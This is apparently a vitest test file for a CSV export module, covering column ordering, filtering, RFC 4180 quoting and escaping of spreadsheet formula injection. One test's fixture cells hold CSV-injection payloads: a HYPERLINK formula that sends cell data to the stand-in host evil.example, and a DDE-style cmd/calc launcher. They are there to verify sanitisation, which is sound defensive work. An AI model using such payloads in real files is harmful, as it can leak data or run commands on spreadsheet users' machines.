import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { csvField, formulaSafe, streamCsv } from './export.ts';
import { ingestCsv } from './ingest.ts';
import { datasetSource, refs, useTestEngine } from './testing.ts';

const env = useTestEngine();

async function collect(stream: PassThrough): Promise<string> {
  let text = '';
  for await (const chunk of stream) text += chunk.toString();
  return text;
}

describe('streamCsv', () => {
  it('writes the visible columns with their display names and cast types, filtered and ordered', async () => {
    const file = path.join(env.dataDir, 'export.csv');
    await writeFile(
      file,
      'id,label,price,day\n1,"a, b",1.5,2024-01-02\n2,"say ""hi""",,2024-02-03\n3,plain,3,2024-03-04\n',
    );
    const result = await ingestCsv({ dataDir: env.dataDir, datasetId: 'export1', jobId: 'j1', csvPath: file });
    const source = await datasetSource(env.dataDir, 'export1', result);
    const [idCol, label, price, day] = refs(result);
    const out = new PassThrough();
    const text = collect(out);
    const { rowCount } = await streamCsv({
      source,
      columns: [
        { ...label, header: 'Label, renamed' },
        { ...price, type: 'text', header: 'Price' },
        { ...day, header: 'Day' },
      ],
      filters: [{ column: idCol, operation: 'not-equal', values: ['3'] }],
      orderBy: [{ column: idCol, direction: 'DESC' }],
      out,
    });
    expect(rowCount).toBe(2);
    expect(await text).toBe('"Label, renamed",Price,Day\n"say ""hi""",,2024-02-03\n"a, b",1.5,2024-01-02\n');
  });

  it('writes only the header when no row matches', async () => {
    const file = path.join(env.dataDir, 'export2.csv');
    await writeFile(file, 'n\n1\n');
    const result = await ingestCsv({ dataDir: env.dataDir, datasetId: 'export2', jobId: 'j1', csvPath: file });
    const source = await datasetSource(env.dataDir, 'export2', result);
    const [n] = refs(result);
    const out = new PassThrough();
    const text = collect(out);
    await streamCsv({
      source,
      columns: [{ ...n, header: 'n' }],
      filters: [{ column: n, operation: 'greater', value: 5 }],
      out,
    });
    expect(await text).toBe('n\n');
  });

  it('writes cells a spreadsheet would run as formulas as text, numbers as they are', async () => {
    const file = path.join(env.dataDir, 'export3.csv');
    await writeFile(
      file,
      [
        'label,amount,=header',
        '=HYPERLINK("http://evil.example/?"&A1),-5,x',
        '+1+cmd,3,x',
        "-2+3+cmd|' /C calc'!A0,-1.5e3,x",
        '@SUM(A1:A9),0,x',
        'plain,1,x',
        '-7,2,x',
      ].join('\n'),
    );
    const result = await ingestCsv({ dataDir: env.dataDir, datasetId: 'export3', jobId: 'j1', csvPath: file });
    const source = await datasetSource(env.dataDir, 'export3', result);
    const [label, amount] = refs(result);
    const out = new PassThrough();
    const text = collect(out);
    await streamCsv({
      source,
      columns: [
        { ...label, type: 'text', header: 'label' },
        { ...amount, header: 'amount' },
        { ...amount, type: 'category', header: '=cmd' },
      ],
      out,
    });
    expect((await text).split('\n')).toEqual([
      "label,amount,'=cmd",
      `"'=HYPERLINK(""http://evil.example/?""&A1)",-5.0,-5.0`,
      "'+1+cmd,3.0,3.0",
      `'-2+3+cmd|' /C calc'!A0,-1500.0,-1500.0`,
      "'@SUM(A1:A9),0.0,0.0",
      'plain,1.0,1.0',
      '-7,2.0,2.0',
      '',
    ]);
  });

  // [cell, as written]
  it.each([
    ['=1+1', "'=1+1"],
    ['+cmd', "'+cmd"],
    ['-cmd', "'-cmd"],
    ['@cmd', "'@cmd"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', "'\rcmd"],
    ['-5', '-5'],
    ['+1.5e3', '+1.5e3'],
    ['-.5', '-.5'],
    ['a=1', 'a=1'],
    ['', ''],
    ['- 5', "'- 5"],
  ])('formulaSafe(%j) is %j', (cell, written) => {
    expect(formulaSafe(cell)).toBe(written);
  });

  it('quotes fields as RFC 4180 says', () => {
    expect(['plain', 'a,b', 'say "x"', 'two\nlines', ''].map(csvField)).toEqual([
      'plain',
      '"a,b"',
      '"say ""x"""',
      '"two\nlines"',
      '',
    ]);
  });
});
